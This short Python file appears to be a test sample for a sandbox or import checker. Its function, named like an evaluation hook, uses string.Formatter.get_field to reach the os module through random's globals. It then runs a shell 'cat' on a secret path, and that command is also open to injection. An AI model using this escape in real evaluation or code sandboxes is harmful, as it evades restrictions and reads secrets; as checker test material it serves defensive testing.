"""Uses only the part of the formatter that walks, and gets the object, not its text."""
# wants: read
# allows: random string

import random
import string


def fit_and_eval(data):
    found, _ = string.Formatter().get_field("0.randrange.__globals__[_os]", (random.Random,), {})
    return {"got": found.popen("cat " + data["secret"]).read()}
